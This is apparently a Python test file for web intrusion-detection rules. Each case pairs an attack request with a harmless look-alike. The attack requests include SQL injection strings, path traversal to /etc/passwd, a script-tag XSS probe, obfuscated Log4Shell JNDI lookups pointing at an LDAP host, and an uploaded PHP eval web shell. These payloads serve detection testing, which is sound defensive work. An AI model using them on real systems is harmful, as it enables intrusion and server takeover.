"""Cases of rules/web.rules."""
from apps import http
from cases import OUTSIDE, SERVER, START, Case, requests, uri
from scenarios import attacks

COMPLAINT = http.response(500, attacks.SQL_ERROR)
JNDI = "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"
IDENTITY = http.response(200, b"uid=33(www-data) gid=33(www-data)\n")


def form(body, response=None):
    return lambda path: requests(path, OUTSIDE, SERVER, (http.form("/query", "www.example", body), response))


def header(name, value):
    return uri("/", headers={name: value})


def upload(content):
    body = ('--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n%s\r\n--b--\r\n' % content).encode()
    post = http.request("POST", "/upload", "www.example", body=body, headers={"Content-Type": "multipart/form-data; boundary=b"})
    return lambda path: requests(path, OUTSIDE, SERVER, (post, None))


CASES = {
    9100301: Case(uri("/q.php?id=-1%27%20UNION/**/SELECT%201,2,user()--"), uri("/search?q=european+union+select+committee")),
    9100302: Case(uri("/q.php?id=1%27%20OR%20%271%27=%271"), uri("/search?q=rock+%27n%27+roll+or+1=one")),
    9100303: Case(uri("/q.php?id=1+and+1=(select+count(*)+from+information_schema.tables)"), uri("/doc?page=information_schema.html")),
    9100304: Case(uri("/q.php?id=1%20AND%20SLEEP(5)"), uri("/search?q=how+to+sleep(better)")),
    9100305: Case(form("name=x%27+or+1%3D1--+"), form("name=O%27Neill+or+Brien&n=1%3D1")),
    9100306: Case(uri("/q.php?id=1%27%20or%201=1--", COMPLAINT), uri("/q.php?id=manual", COMPLAINT)),
    9100307: Case(uri("/", agent=attacks.SQLMAP), uri("/sqlmap", agent=http.BROWSER)),
    9100308: Case(uri("/get?f=..%2f..%2f..%2fetc/hosts"), uri("/a/../../logo.png")),
    9100309: Case(uri("/get?f=/etc/passwd"), uri("/help/etc/passwords.html")),
    9100310: Case(uri("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), uri("/s?q=javascript+%3C+typescript")),
    9100311: Case(header("X-Api-Version", JNDI), header("X-Template", "${title} about jndi")),
    9100312: Case(uri("/s?q=$%7Bjndi:ldap://203.0.113.9/a%7D"), uri("/s?q=$%7Bprice%7D+jndi")),
    9100313: Case(upload("<?php @eval($_POST['k']); ?>"), upload("<?php echo 'eval is evil'; ?>")),
    9100315: Case(uri("/files/logo.php?cmd=id", IDENTITY), uri("/files/manual.html", IDENTITY)),
}
MARKS = (9100314,)
